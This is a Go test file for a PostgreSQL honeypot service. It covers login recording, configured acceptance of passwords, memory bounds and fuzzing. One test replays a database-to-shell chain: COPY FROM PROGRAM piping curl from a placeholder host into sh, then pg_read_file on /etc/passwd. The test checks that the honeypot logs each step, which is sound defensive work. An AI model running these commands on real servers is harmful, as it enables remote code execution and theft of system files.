package postgres

import (
	"bufio"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/netip"
	"runtime"
	"strings"
	"testing"
	"time"

	"go.cordon.dev/cordon/internal/clock"
	"go.cordon.dev/cordon/internal/deception/service"
	"go.cordon.dev/cordon/internal/deception/service/servicetest"
)

func TestConformance(t *testing.T) {
	servicetest.Run(t, Kind(), service.Config{"auth": "password"})
}

func made(t testing.TB, c service.Config) service.Service {
	t.Helper()
	s, err := Kind().New(servicetest.Setup(t, c))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// visitor is a client from an address of its own.
type visitor struct {
	t    testing.TB
	conn net.Conn
	in   *bufio.Reader
	sink *servicetest.Sink
}

func visit(t testing.TB, s service.Service, address string) *visitor {
	t.Helper()
	mine, theirs := net.Pipe()
	v := &visitor{t, mine, bufio.NewReaderSize(mine, 512), &servicetest.Sink{}}
	session := service.NewSession(v.sink, clock.Real{}, "test-1", "postgres", netip.MustParseAddrPort(address), netip.MustParseAddrPort("192.0.2.7:5432"))
	ctx, cancel := context.WithCancel(context.Background())
	ended := make(chan bool)
	go func() {
		defer close(ended)
		s.Serve(ctx, theirs, session)
		_ = theirs.Close()
		session.End("test")
	}()
	t.Cleanup(func() { cancel(); _ = mine.Close(); <-ended })
	return v
}

func frame(kind byte, body string) string {
	b := []byte{kind}
	if kind == 0 {
		b = nil
	}
	return string(binary.BigEndian.AppendUint32(b, uint32(len(body)+4))) + body
}

func hello(user, db string) string {
	return frame(0, "\x00\x03\x00\x00user\x00"+user+"\x00database\x00"+db+"\x00\x00")
}

// ask sends a message and reads up to one of the given kinds.
func (v *visitor) ask(message, until string) string {
	v.t.Helper()
	_ = v.conn.SetDeadline(time.Now().Add(time.Minute))
	if _, err := io.WriteString(v.conn, message); err != nil {
		return "closed"
	}
	var all strings.Builder
	for {
		var head [5]byte
		if _, err := io.ReadFull(v.in, head[:]); err != nil {
			return all.String() + "closed"
		}
		body := make([]byte, binary.BigEndian.Uint32(head[1:])-4)
		_, _ = io.ReadFull(v.in, body)
		all.WriteByte(head[0])
		all.Write(body)
		if strings.IndexByte(until, head[0]) >= 0 {
			return all.String()
		}
	}
}

func (v *visitor) query(sql string) string { return v.ask(frame('Q', sql+"\x00"), "Z") }

func TestNobodyIsLetInUnlessSaid(t *testing.T) {
	v := visit(t, made(t, service.Config{"auth": "password"}), "203.0.113.9:1")
	v.ask(hello("postgres", "postgres"), "R")
	if got := v.ask(frame('p', "hunter2\x00"), "E"); !strings.Contains(got, `password authentication failed for user "postgres"`) {
		t.Errorf("%q", got)
	}
	c := v.sink.Wait(t, service.LoginAttempt, 1)[0].Credential
	if c.Kind != service.Plaintext || c.Principal != "postgres" || string(c.Secret) != "hunter2" || c.Accepted || c.Details[0].Value != "postgres" {
		t.Errorf("the attempt is %+v", c)
	}
}

func TestTheThirdAttemptIsLetIn(t *testing.T) {
	s := made(t, service.Config{"accept": map[string]any{"after": 3}, "database": "shop"})
	for try := 1; try <= 3; try++ {
		v := visit(t, s, "203.0.113.9:1")
		v.ask(hello("app", "shop"), "R")
		got := v.ask(frame('p', "md5"+strings.Repeat("0", 32)+"\x00"), "EZ")
		if in := !strings.Contains(got, "failed"); in != (try == 3) {
			t.Errorf("attempt %d: %q", try, got)
		}
		if n := len(v.sink.Of(service.LoggedIn)); n != try/3 {
			t.Errorf("attempt %d: %d logins", try, n)
		}
	}
}

// The chain that turns a database into a shell is taken down, step by step.
func TestAShellByCopyIsRecorded(t *testing.T) {
	v := visit(t, made(t, service.Config{"auth": "password", "accept": map[string]any{"passwords": []string{"postgres"}}}), "203.0.113.9:1")
	v.ask(hello("postgres", "postgres"), "R")
	v.ask(frame('p', "postgres\x00"), "Z")
	for _, step := range []struct{ sql, want string }{
		{"DROP TABLE IF EXISTS cmd_exec", "does not exist, skipping"},
		{"CREATE TABLE cmd_exec(cmd_output text)", "CREATE TABLE"},
		{"COPY cmd_exec FROM PROGRAM 'curl http://198.51.100.3/x | sh'", "pg_execute_server_program"},
		{"SELECT * FROM cmd_exec", "SELECT 0"},
		{"select pg_read_file('/etc/passwd')", "permission denied for function pg_read_file"},
	} {
		if got := v.query(step.sql); !strings.Contains(got, step.want) {
			t.Errorf("%s: %q, want %q", step.sql, got, step.want)
		}
	}
	var steps []string
	for _, o := range v.sink.Of(service.Query) {
		if s := servicetest.Field(o, "step"); s != "" {
			steps = append(steps, s)
		}
	}
	if got := strings.Join(steps, "; "); got != "run a program: curl http://198.51.100.3/x | sh; reach for files of the machine" {
		t.Errorf("steps: %s", got)
	}
}

func TestWhatASessionKeepsIsBounded(t *testing.T) {
	v := visit(t, made(t, service.Config{"auth": "password", "accept": map[string]any{"passwords": []string{"x"}}}), "203.0.113.9:1")
	v.ask(hello("a", "postgres"), "R")
	v.ask(frame('p', "x\x00"), "Z")
	v.query("create table t (a text)")
	full := false
	for range 40 {
		full = full || strings.Contains(v.query("insert into t values ('"+strings.Repeat("x", 50_000)+"')"), "No space left on device")
	}
	if !full {
		t.Error("two megabytes are kept")
	}
	if got := v.query("select " + strings.Repeat("(", 5000) + "1"); !strings.Contains(got, "stack depth limit exceeded") {
		t.Errorf("%.200q", got)
	}
	big := "'" + strings.Repeat("x", 100_000) + "'"
	if got := v.query("select " + strings.TrimSuffix(strings.Repeat(big+"||", 30), "||")); !strings.Contains(got, "out of memory") {
		t.Errorf("%.200q", got)
	}
}

func TestWrongConfigurationsAreNamed(t *testing.T) {
	for _, tt := range []struct {
		config service.Config
		want   string
	}{
		{service.Config{"auth": "none"}, "auth"}, {service.Config{"accept": map[string]any{"after": -1}}, "accept.after"},
	} {
		if _, err := Kind().New(servicetest.Setup(t, tt.config)); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%v: error %v, want one that names %s", tt.config, err, tt.want)
		}
	}
}

// A thousand clients that were asked for a password take little. The bound is
// wide: it is there to notice a large buffer per client.
func TestIdleClientsAreSmall(t *testing.T) {
	s := made(t, nil)
	heap := func() int64 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return int64(m.HeapAlloc + m.StackInuse)
	}
	before := heap()
	for i := range 1000 {
		visit(t, s, fmt.Sprintf("203.0.113.%d:%d", i%250, 1000+i)).ask(hello("a", "b"), "R")
	}
	each := (heap() - before) / 1000
	t.Logf("%d KiB a client, the test's own side included", each>>10)
	if each > 64<<10 {
		t.Errorf("a client that waits takes %d KiB", each>>10)
	}
}

// FuzzStart sends anything before the login.
func FuzzStart(f *testing.F) {
	f.Add([]byte(hello("a", "b")+frame('p', "md5x\x00")), "md5")
	f.Add([]byte("\x00\x00\x00\x08\x04\xd2\x16\x30x"), "password")
	f.Add([]byte(hello("a", "b")+frame('p', "SCRAM-SHA-256\x00\x00\x00\x00\x10n,,n=,r=abcdefghi")+frame('p', "c=biws,r=x,p=AAAA")), "scram-sha-256")
	f.Fuzz(func(t *testing.T, sent []byte, auth string) {
		if auth != "md5" && auth != "password" {
			auth = "scram-sha-256"
		}
		feed(made(t, service.Config{"auth": auth, "tls": false, "accept": map[string]any{"passwords": []string{"x"}}}), sent)
	})
}

func feed(s service.Service, sent []byte) {
	mine, theirs := net.Pipe()
	session := service.NewSession(&servicetest.Sink{}, clock.Real{}, "test-1", "postgres", netip.MustParseAddrPort("203.0.113.9:1"), netip.MustParseAddrPort("192.0.2.7:5432"))
	go func() {
		_, _ = mine.Write(sent)
		_ = mine.Close()
	}()
	go func() { _, _ = io.Copy(io.Discard, mine) }()
	s.Serve(context.Background(), theirs, session)
	_ = theirs.Close()
}

// FuzzMessages sends anything after it.
func FuzzMessages(f *testing.F) {
	for _, s := range []string{
		frame('Q', "select 1\x00"), frame('P', "\x00select $1::int\x00\x00\x00") + frame('B', "\x00\x00\x00\x00\x00\x01\x00\x00\x00\x015\x00\x00") + frame('D', "P\x00") + frame('E', "\x00\x00\x00\x00\x00") + frame('S', ""),
		frame('Q', "copy (select 1) to program 'x'\x00"), frame('D', ""), frame('F', ""), "Z",
	} {
		f.Add([]byte(s))
	}
	s := made(f, service.Config{"auth": "password", "tls": false, "accept": map[string]any{"passwords": []string{"x"}}})
	f.Fuzz(func(t *testing.T, sent []byte) {
		feed(s, append([]byte(hello("a", "postgres")+frame('p', "x\x00")), sent...))
	})
}

// away takes what it is given.
type away struct{ net.Conn }

func (away) Write(b []byte) (int, error)      { return len(b), nil }
func (away) SetWriteDeadline(time.Time) error { return nil }

func FuzzStatement(f *testing.F) {
	for _, s := range []string{
		"select 1+2*3 as x, 'a'||$$b$$ from pg_roles where rolname like '%a' order by 1 limit 2", "create table t (a numeric(3,2), b text); insert into t values (1,'x')",
		"select cast('x' as int), coalesce(null, substr('abc', -1, 99999999999)), chr(0), (select 1/0)", "copy (select (1)) to '/x'", "drop table if exists", "set x to", "select /* /* */",
	} {
		f.Add(s)
	}
	s := made(f, nil).(*server)
	session := service.NewSession(&servicetest.Sink{}, clock.Real{}, "test-1", "postgres", netip.MustParseAddrPort("203.0.113.9:1"), netip.MustParseAddrPort("192.0.2.7:5432"))
	gone := make(chan struct{})
	close(gone) // nobody waits for pg_sleep
	f.Fuzz(func(t *testing.T, sql string) {
		c := &client{holdings: holdings{of: &s.held}, wire: &wire{conn: away{}}, srv: s, session: session, user: "a", db: "postgres", status: 'I', done: gone, params: map[string]string{}}
		defer c.holdings.close()
		c.open()
		if err := c.simple(sql); err == nil && (len(c.out) < 6 || c.out[len(c.out)-6] != 'Z') {
			t.Fatalf("%q is answered with %q", sql, c.out)
		}
	})
}
